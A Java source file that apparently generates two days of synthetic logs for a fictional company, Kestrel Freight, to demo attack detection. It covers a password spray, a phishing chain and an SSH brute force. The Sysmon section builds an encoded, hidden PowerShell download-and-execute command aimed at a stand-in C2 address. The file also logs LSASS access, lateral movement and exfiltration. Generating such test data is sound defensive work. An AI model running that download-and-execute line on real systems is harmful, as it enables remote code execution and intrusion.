package dev.vigil.demo;

import static java.util.Objects.requireNonNull;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import tools.jackson.databind.json.JsonMapper;

/**
 * Writes the telemetry of a small fictional company, Kestrel Freight, in the formats real collectors produce: Windows
 * Security events as evtx_dump JSON, Sysmon through Winlogbeat, Entra ID sign-ins as a Sentinel export, firewall
 * CEF over syslog and Linux sshd syslog. Two days of ordinary activity carry three attacks: a password spray against
 * cloud sign-ins ending in a successful login, a phishing document on a workstation that runs encoded PowerShell,
 * reads LSASS memory and moves to the file server, and an SSH brute force against the internet-facing web server.
 *
 * <p>The data is generated from a fixed seed relative to a given day, so the same day always gives the same files
 * (and re-ingesting them stores nothing twice).
 */
public final class DemoOrganization {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final String DOMAIN = "KESTREL";
    private static final String[] FIRST = {"anna", "ben", "carla", "david", "emma", "farid", "grace", "hugo", "ines",
            "jamal", "kate", "liam", "maria", "noah", "olga", "pavel", "quinn", "rosa", "sven", "tara", "umar", "vera",
            "will", "xena", "yusuf", "zoe", "adam", "bea", "chen", "dina"};
    private static final String[] LAST = {"smith", "jones", "garcia", "muller", "rossi", "novak", "kim", "silva",
            "dubois", "berg"};
    private static final String[] COMMON_PROCESSES = {"C:\\Windows\\System32\\svchost.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\taskhostw.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\SearchIndexer.exe"};

    private final LocalDate today;
    private final Random random = new Random(20_241_105L);
    private final List<String> users = new ArrayList<>();
    private final List<String> workstations = new ArrayList<>();

    /** The attack's facts, for tests and for the demo's own summary. */
    public static final String SPRAY_SOURCE_IP = "203.0.113.50";
    public static final String SPRAYED_USER = "jamal.novak";
    public static final String PHISHED_HOST = "WS007";
    public static final String C2_ADDRESS = "198.51.100.23";
    public static final String SSH_ATTACKER_IP = "192.0.2.77";

    public DemoOrganization(LocalDate today) {
        this.today = requireNonNull(today, "today is null");
        for (int i = 0; i < FIRST.length; i++) {
            users.add(FIRST[i] + "." + LAST[i % LAST.length]);
        }
        for (int i = 1; i <= 20; i++) {
            workstations.add(String.format(Locale.ROOT, "WS%03d", i));
        }
    }

    /** Writes the demo files into the directory and returns their paths. */
    public List<Path> writeTo(Path directory) throws IOException {
        Files.createDirectories(directory);
        ZonedDateTime start = today.minusDays(2).atStartOfDay(ZoneOffset.UTC);
        List<Path> files = new ArrayList<>();
        files.add(write(directory.resolve("windows-security.json"), securityEvents(start)));
        files.add(write(directory.resolve("sysmon-winlogbeat.ndjson"), sysmonEvents(start)));
        files.add(write(directory.resolve("signin-logs.json"), signIns(start)));
        files.add(write(directory.resolve("firewall-cef.log"), firewall(start)));
        files.add(write(directory.resolve("web01-auth.log"), sshd(start)));
        return files;
    }

    private static Path write(Path file, List<String> lines) throws IOException {
        try (BufferedWriter writer = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            for (String line : lines) {
                writer.write(line);
                writer.write('\n');
            }
        }
        return file;
    }

    // --- Windows Security (evtx_dump shape) --------------------------------------------------------------------

    private List<String> securityEvents(ZonedDateTime start) {
        List<String> out = new ArrayList<>();
        long record = 100_000;
        for (int minute = 0; minute < 2 * 24 * 60; minute += 2) {
            ZonedDateTime time = start.plusMinutes(minute).plusSeconds(random.nextInt(120));
            int hour = time.getHour();
            boolean workHours = hour >= 7 && hour <= 19;
            int logons = workHours ? 3 : 1;
            for (int i = 0; i < logons; i++) {
                String user = pick(users);
                String host = workstationOf(user);
                out.add(security(time.plusSeconds(i), record++, 4624, "DC01", ordered("TargetUserName", user,
                        "TargetDomainName", DOMAIN, "LogonType", "3", "IpAddress", addressOf(host),
                        "WorkstationName", host, "LogonProcessName", "Kerberos", "AuthenticationPackageName", "Kerberos")));
            }
            if (random.nextInt(10) == 0) {
                String user = pick(users);
                out.add(security(time, record++, 4625, "DC01", ordered("TargetUserName", user, "TargetDomainName",
                        DOMAIN, "LogonType", "3", "IpAddress", addressOf(workstationOf(user)), "Status", "0xc000006d",
                        "SubStatus", "0xc000006a", "FailureReason", "%%2313")));
            }
            if (random.nextInt(4) == 0) {
                String user = pick(users);
                out.add(security(time, record++, 4688, workstationOf(user), ordered("SubjectUserName", user,
                        "SubjectDomainName", DOMAIN, "NewProcessName", pick(COMMON_PROCESSES),
                        "ParentProcessName", "C:\\Windows\\explorer.exe", "CommandLine", "", "TokenElevationType", "%%1938")));
            }
        }
        // Lateral movement: the phished user's credentials used from WS007 against the file server.
        ZonedDateTime lateral = attackStart(start).plusMinutes(22);
        out.add(security(lateral, record++, 4624, "FS01", ordered("TargetUserName", "svc_backup", "TargetDomainName",
                DOMAIN, "LogonType", "3", "IpAddress", addressOf(PHISHED_HOST), "WorkstationName", PHISHED_HOST,
                "LogonProcessName", "NtLmSsp", "AuthenticationPackageName", "NTLM")));
        out.add(security(lateral.plusSeconds(5), record++, 5140, "FS01", ordered("SubjectUserName", "svc_backup",
                "SubjectDomainName", DOMAIN, "IpAddress", addressOf(PHISHED_HOST), "ShareName", "\\\\*\\ADMIN$",
                "ObjectType", "File")));
        out.add(security(lateral.plusSeconds(9), record, 7045, "FS01", ordered("ServiceName", "kfupd",
                "ImagePath", "%SystemRoot%\\kfupd.exe", "ServiceType", "user mode service", "StartType", "demand start",
                "AccountName", "LocalSystem")));
        return out;
    }

    private String security(ZonedDateTime time, long record, int eventId, String computer, Map<String, ?> data) {
        Map<String, Object> system = new LinkedHashMap<>();
        system.put("Provider", ordered("#attributes", ordered("Name", eventId == 7045 ? "Service Control Manager"
                : "Microsoft-Windows-Security-Auditing", "Guid", "{54849625-5478-4994-a5ba-3e3b0328c30d}")));
        system.put("EventID", eventId);
        system.put("Level", 0);
        system.put("Keywords", eventId == 4625 ? "0x8010000000000000" : "0x8020000000000000");
        system.put("TimeCreated", ordered("#attributes", ordered("SystemTime", iso(time))));
        system.put("EventRecordID", record);
        system.put("Channel", eventId == 7045 ? "System" : "Security");
        system.put("Computer", computer + ".kestrel.local");
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("System", system);
        event.put("EventData", new LinkedHashMap<>(data));
        return JSON.writeValueAsString(ordered("Event", event));
    }

    // --- Sysmon (Winlogbeat 7 shape) ---------------------------------------------------------------------------

    private List<String> sysmonEvents(ZonedDateTime start) {
        List<String> out = new ArrayList<>();
        long record = 5_000;
        for (int minute = 0; minute < 2 * 24 * 60; minute += 3) {
            ZonedDateTime time = start.plusMinutes(minute).plusSeconds(random.nextInt(180));
            String host = pick(workstations);
            String image = pick(COMMON_PROCESSES);
            String user = userOfWorkstation(host); // people work on their own workstation
            out.add(sysmon(time, record++, 1, host, ordered("Image", image, "CommandLine", "\"" + image + "\"",
                    "ParentImage", "C:\\Windows\\explorer.exe", "User", DOMAIN + "\\" + user,
                    "Hashes", "SHA256=" + hex(64), "IntegrityLevel", "Medium")));
            if (random.nextInt(2) == 0) {
                out.add(sysmon(time.plusSeconds(1), record++, 3, host, ordered("Image", image, "Protocol", "tcp",
                        "SourceIp", addressOf(host), "SourcePort", String.valueOf(49_152 + random.nextInt(10_000)),
                        "DestinationIp", "52.96." + random.nextInt(255) + "." + random.nextInt(255),
                        "DestinationPort", "443", "User", DOMAIN + "\\" + user)));
            }
            if (random.nextInt(3) == 0) {
                out.add(sysmon(time.plusSeconds(2), record++, 22, host, ordered("Image", image,
                        "QueryName", pick(new String[] {"outlook.office365.com", "www.google.com", "teams.microsoft.com",
                                "update.kestrel.local", "login.microsoftonline.com"}), "QueryStatus", "0")));
            }
        }
        ZonedDateTime attack = attackStart(start);
        String victim = DOMAIN + "\\" + userOfWorkstation(PHISHED_HOST);
        String script = "IEX (New-Object Net.WebClient).DownloadString('https://" + C2_ADDRESS + "/a')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        out.add(sysmon(attack, record++, 1, PHISHED_HOST, ordered(
                "Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "CommandLine", "\"WINWORD.EXE\" /n \"C:\\Users\\" + userOfWorkstation(PHISHED_HOST)
                        + "\\Downloads\\Invoice_4471.docm\"",
                "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                "User", victim, "Hashes", "SHA256=" + hex(64), "IntegrityLevel", "Medium")));
        out.add(sysmon(attack.plusSeconds(40), record++, 1, PHISHED_HOST, ordered(
                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "CommandLine", "powershell.exe -nop -w hidden -EncodedCommand " + encoded,
                "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "User", victim, "Hashes", "SHA256=" + hex(64), "IntegrityLevel", "Medium")));
        out.add(sysmon(attack.plusSeconds(43), record++, 3, PHISHED_HOST, ordered(
                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Protocol", "tcp",
                "SourceIp", addressOf(PHISHED_HOST), "SourcePort", "51234", "DestinationIp", C2_ADDRESS,
                "DestinationPort", "443", "User", victim)));
        out.add(sysmon(attack.plusMinutes(15), record++, 10, PHISHED_HOST, ordered(
                "SourceImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "TargetImage", "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1010",
                "SourceUser", victim, "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|UNKNOWN(00007ffb1c2a1a2b)")));
        return out;
    }

    private String sysmon(ZonedDateTime time, long record, int eventId, String host, Map<String, ?> data) {
        Map<String, Object> winlog = new LinkedHashMap<>();
        winlog.put("channel", "Microsoft-Windows-Sysmon/Operational");
        winlog.put("event_id", eventId);
        winlog.put("provider_name", "Microsoft-Windows-Sysmon");
        winlog.put("computer_name", host + ".kestrel.local");
        winlog.put("record_id", record);
        Map<String, Object> eventData = new LinkedHashMap<>();
        eventData.put("UtcTime", time.format(DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS")));
        eventData.putAll(data);
        winlog.put("event_data", eventData);
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("@timestamp", iso(time));
        event.put("agent", ordered("type", "winlogbeat", "version", "8.15.0"));
        event.put("winlog", winlog);
        return JSON.writeValueAsString(event);
    }

    // --- Entra ID sign-ins (Sentinel SigninLogs export) --------------------------------------------------------

    private List<String> signIns(ZonedDateTime start) {
        List<String> out = new ArrayList<>();
        for (int minute = 0; minute < 2 * 24 * 60; minute += 7) {
            ZonedDateTime time = start.plusMinutes(minute).plusSeconds(random.nextInt(400));
            String user = pick(users);
            out.add(signIn(time, user, "198.18." + (users.indexOf(user) % 8) + ".10", "0", "DE", "Office 365 Exchange Online"));
        }
        ZonedDateTime spray = attackStart(start).minusHours(5);
        for (int i = 0; i < users.size(); i++) {
            out.add(signIn(spray.plusSeconds(i * 11L), users.get(i), SPRAY_SOURCE_IP, "50126", "NL", "Azure Portal"));
        }
        out.add(signIn(spray.plusMinutes(9), SPRAYED_USER, SPRAY_SOURCE_IP, "0", "NL", "Azure Portal"));
        return out;
    }

    private String signIn(ZonedDateTime time, String user, String ip, String resultType, String country, String app) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("TimeGenerated", iso(time));
        row.put("Type", "SigninLogs");
        row.put("OperationName", "Sign-in activity");
        row.put("UserPrincipalName", user + "@kestrelfreight.example");
        row.put("UserDisplayName", displayName(user));
        row.put("IPAddress", ip);
        row.put("AppDisplayName", app);
        row.put("ClientAppUsed", "Browser");
        row.put("ResultType", resultType);
        row.put("ResultDescription", resultType.equals("0") ? "" : "Invalid username or password or Invalid on-premise username or password.");
        row.put("Location", country);
        row.put("ConditionalAccessStatus", resultType.equals("0") ? "success" : "notApplied");
        row.put("AuthenticationRequirement", "singleFactorAuthentication");
        return JSON.writeValueAsString(row);
    }

    // --- Firewall CEF over syslog, sshd syslog -----------------------------------------------------------------

    private List<String> firewall(ZonedDateTime start) {
        List<String> out = new ArrayList<>();
        DateTimeFormatter bsd = DateTimeFormatter.ofPattern("MMM dd HH:mm:ss", Locale.ROOT);
        for (int minute = 0; minute < 2 * 24 * 60; minute += 4) {
            ZonedDateTime time = start.plusMinutes(minute).plusSeconds(random.nextInt(240));
            boolean deny = random.nextInt(6) == 0;
            String src = deny ? "45.148." + random.nextInt(255) + "." + random.nextInt(255) : addressOf(pick(workstations));
            String dst = deny ? "10.20.0.80" : "52.96." + random.nextInt(255) + "." + random.nextInt(255);
            out.add("<134>" + time.format(bsd) + " fw01 CEF:0|Palo Alto Networks|PAN-OS|11.1|" + (deny ? "deny" : "allow")
                    + "|TRAFFIC|" + (deny ? 5 : 1) + "|rt=" + time.toInstant().toEpochMilli() + " src=" + src + " dst=" + dst
                    + " spt=" + (40_000 + random.nextInt(20_000)) + " dpt=" + (deny ? 22 : 443) + " proto=TCP act="
                    + (deny ? "deny" : "allow") + " out=" + (500 + random.nextInt(20_000)) + " in=" + (500 + random.nextInt(90_000))
                    + " cs1Label=Rule cs1=" + (deny ? "block-inbound" : "allow-web"));
        }
        ZonedDateTime exfil = attackStart(start).plusMinutes(40);
        out.add("<134>" + exfil.format(bsd) + " fw01 CEF:0|Palo Alto Networks|PAN-OS|11.1|allow|TRAFFIC|3|rt="
                + exfil.toInstant().toEpochMilli() + " src=" + addressOf(PHISHED_HOST) + " dst=" + C2_ADDRESS
                + " spt=51302 dpt=443 proto=TCP act=allow out=734003200 in=18211 cs1Label=Rule cs1=allow-web");
        return out;
    }

    private List<String> sshd(ZonedDateTime start) {
        List<String> out = new ArrayList<>();
        DateTimeFormatter bsd = DateTimeFormatter.ofPattern("MMM dd HH:mm:ss", Locale.ROOT);
        int pid = 20_000;
        for (int hour = 0; hour < 48; hour++) {
            ZonedDateTime time = start.plusHours(hour).plusMinutes(random.nextInt(60));
            out.add("<38>" + time.format(bsd) + " web01 sshd[" + pid++ + "]: Accepted publickey for deploy from 10.20.0.5 port "
                    + (50_000 + random.nextInt(10_000)) + " ssh2: ED25519 SHA256:" + hex(43));
        }
        ZonedDateTime brute = attackStart(start).plusHours(3);
        for (int i = 0; i < 60; i++) {
            out.add("<38>" + brute.plusSeconds(i * 2L).format(bsd) + " web01 sshd[" + pid++ + "]: Failed password for "
                    + (i % 3 == 0 ? "invalid user admin" : "root") + " from " + SSH_ATTACKER_IP + " port " + (30_000 + i) + " ssh2");
        }
        out.add("<38>" + brute.plusSeconds(125).format(bsd) + " web01 sshd[" + pid + "]: Accepted password for root from "
                + SSH_ATTACKER_IP + " port 30077 ssh2");
        return out;
    }

    // --- helpers -----------------------------------------------------------------------------------------------

    private static ZonedDateTime attackStart(ZonedDateTime start) {
        return start.plusDays(1).plusHours(9).plusMinutes(12);
    }

    private String workstationOf(String user) {
        return workstations.get(Math.abs(user.hashCode()) % workstations.size());
    }

    private String userOfWorkstation(String host) {
        return users.stream().filter(u -> workstationOf(u).equals(host)).findFirst().orElse(users.get(0));
    }

    private static String addressOf(String host) {
        return "10.20." + (host.startsWith("WS") ? "1." + Integer.parseInt(host.substring(2)) : "0.10");
    }

    private static String displayName(String user) {
        String[] parts = user.split("\\.");
        return capitalize(parts[0]) + " " + capitalize(parts[1]);
    }

    private static String capitalize(String s) {
        return Character.toUpperCase(s.charAt(0)) + s.substring(1);
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    private String pick(String[] array) {
        return array[random.nextInt(array.length)];
    }

    private String hex(int length) {
        StringBuilder s = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            s.append(Character.forDigit(random.nextInt(16), 16));
        }
        return s.toString().toUpperCase(Locale.ROOT);
    }

    /**
     * A map that keeps its keys in the order given. {@code Map.of} iterates in an order that changes from one JVM to
     * the next, which would change the generated records' bytes, and so their event ids, on every run.
     */
    private static Map<String, Object> ordered(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    private static String iso(ZonedDateTime time) {
        return DateTimeFormatter.ISO_INSTANT.format(Instant.from(time));
    }
}
